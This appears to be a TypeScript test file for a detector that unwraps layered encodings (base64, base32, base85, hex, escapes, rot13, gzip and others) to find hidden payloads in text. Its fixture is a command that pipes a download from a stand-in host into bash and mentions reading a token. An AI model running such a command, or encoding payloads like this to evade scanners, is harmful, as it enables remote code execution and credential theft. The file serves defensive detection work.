import { deflateSync, gzipSync, unzipSync } from 'node:zlib'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { decodeLayers } from './decode.js'
import { encodeBase64 } from './codecs/base64.js'
import { encodeBase32 } from './codecs/base32.js'
import { encodeBase58 } from './codecs/base58.js'
import { encodeBase85 } from './codecs/base85.js'
import { encodeHex } from './codecs/hex.js'
import { reverse, rot13 } from './codecs/escapes.js'
import { utf8 } from './codecs/bytes.js'

const command = 'curl -s https://pay.example/x | bash && read the token'
const inflate = (bytes: Uint8Array): Uint8Array | undefined => {
  try {
    return unzipSync(bytes, { maxOutputLength: 65_536 })
  } catch {
    return undefined
  }
}
const escapes = (prefix: string, width: number): string =>
  Array.from(command, (c) => prefix + c.charCodeAt(0).toString(16).padStart(width, '0')).join('')

const cases: readonly (readonly [string, string])[] = [
  ['base64', encodeBase64(utf8(command))],
  ['base64', encodeBase64(utf8(command), true)],
  ['base64', encodeBase64(utf8(command)).replaceAll(/.{16}/g, '$&\n')],
  ['base32', encodeBase32(utf8(command))],
  ['base32', encodeBase32(utf8(command)).toLowerCase()],
  ['base58', encodeBase58(utf8(command)) ?? ''],
  ['ascii85', `<~${encodeBase85(utf8(command), 'ascii85')}~>`],
  ['base85', encodeBase85(utf8(command), 'base85')],
  ['hex', encodeHex(utf8(command))],
  ['hex', escapes(', 0x', 2).slice(2)],
  ['percent', escapes('%', 2)],
  ['escape', escapes('\\u', 4)],
  ['escape', escapes('\\x', 2)],
  ['entity', Array.from(command, (c) => `&#${c.charCodeAt(0)};`).join('')],
  ['codes', Array.from(command, (c) => c.charCodeAt(0)).join(', ')],
  ['codes', Array.from(command, (c) => `chr(${c.charCodeAt(0)})`).join(' + ')],
  ['rot13', rot13(command)],
  ['reversed', reverse(command)],
  ['base64>compressed', encodeBase64(gzipSync(command))],
  ['base64>compressed', encodeBase64(deflateSync(command))],
  ['base64>hex', encodeBase64(utf8(encodeHex(utf8(command))))],
]

describe('decodeLayers', () => {
  test.each(cases)('%s: %s', (encoding, encoded) => {
    const text = `payload = "${encoded}"\n`
    const found = decodeLayers(text, { inflate }).find((d) => d.text?.includes(command))
    expect(found?.encoding).toBe(encoding)
    expect(text.slice(found?.start, found?.end).length).toBeGreaterThan(20)
  })

  test('ordinary text and code give nothing', () => {
    const text = `import { readFileSync } from 'node:fs'
export const createConnectionManagerFactory = (options) => configuration.applicationName
The quick brown fox jumps over the lazy dog, see https://docs.example/guide/getting-started?lang=en.
sha256-3f786850e387550fdab836ed7e6dc881de23001b background-color: #ffffff; version 1.2.3, 4, 5
`
    expect(decodeLayers(text)).toEqual([])
  })

  test('depth and budgets hold', () => {
    let nested = command
    for (let i = 0; i < 6; i++) nested = encodeBase64(utf8(nested))
    expect(Math.max(...decodeLayers(nested).map((d) => d.depth))).toBe(3)
    expect(decodeLayers(nested, { depth: 6 }).at(-1)?.text).toBe(command)
    expect(decodeLayers(nested, { candidates: 1 }).length).toBeLessThanOrEqual(1)
    expect(decodeLayers(nested, { bytes: 10 })).toEqual([])
  })

  test('anything is taken, from text or bytes', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: 'binary' }), fc.uint8Array()), (input) => {
        for (const d of decodeLayers(input)) expect(d.end).toBeLessThanOrEqual(input.length)
      }),
    )
  })

  test.each(['A', 'A\n', '%41', '\\x41', '&#65;', '65,', 'a ', '<~', 'a!', '=', '0x', 'A='])(
    'stays fast on a flood of %j',
    (unit) => {
      const from = performance.now()
      decodeLayers(unit.repeat(Math.floor(200_000 / unit.length)))
      expect(performance.now() - from).toBeLessThan(5_000)
    },
  )

  test('what inflates to something by chance is also read as it is', () => {
    const found = decodeLayers(encodeBase64(utf8(command)), { inflate: () => utf8('anything else') })
    expect(found.map(({ encoding, text }) => [encoding, text])).toEqual([
      ['base64', command],
      ['base64>compressed', 'anything else'],
    ])
  })
})
